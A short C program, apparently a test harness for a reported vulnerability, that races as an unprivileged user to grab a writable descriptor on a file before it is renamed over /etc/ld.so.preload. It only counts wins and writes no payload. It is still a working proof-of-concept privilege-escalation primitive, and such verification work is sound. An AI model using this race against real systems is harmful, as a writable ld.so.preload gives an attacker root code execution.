// SPDX-License-Identifier: GPL-2.0
/*
 * racer DIR NAME SECONDS: the attacker of issue 26, item 6, as an
 * unprivileged user. Whenever DIR/NAME is created (inotify), try at once to
 * open it for writing: a descriptor obtained there stays writable after the
 * file is chmod()ed and renamed over /etc/ld.so.preload. Prints "WON SEEN":
 * how many times it got a writable descriptor, and how many creations it
 * saw (0 seen: the test proved nothing).
 */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[4096], buf[4096];
	long won = 0, seen = 0;
	time_t end;
	int in;

	if (argc != 4) {
		fprintf(stderr, "usage: racer DIR NAME SECONDS\n");
		return 2;
	}
	end = time(NULL) + atoi(argv[3]);
	snprintf(path, sizeof(path), "%s/%s", argv[1], argv[2]);
	in = inotify_init1(IN_NONBLOCK);
	if (in < 0 || inotify_add_watch(in, argv[1], IN_CREATE) < 0) {
		perror("racer: inotify");
		return 2;
	}
	while (time(NULL) < end) {
		struct pollfd p = { in, POLLIN, 0 };

		if (poll(&p, 1, 100) <= 0)
			continue;
		while (read(in, buf, sizeof(buf)) > 0)
			;
		seen++;
		for (int i = 0; i < 1000; i++) {
			int fd = open(path, O_WRONLY | O_APPEND);

			if (fd >= 0) {
				won++;
				close(fd);
				break;
			}
		}
	}
	printf("%ld %ld\n", won, seen);
	return 0;
}
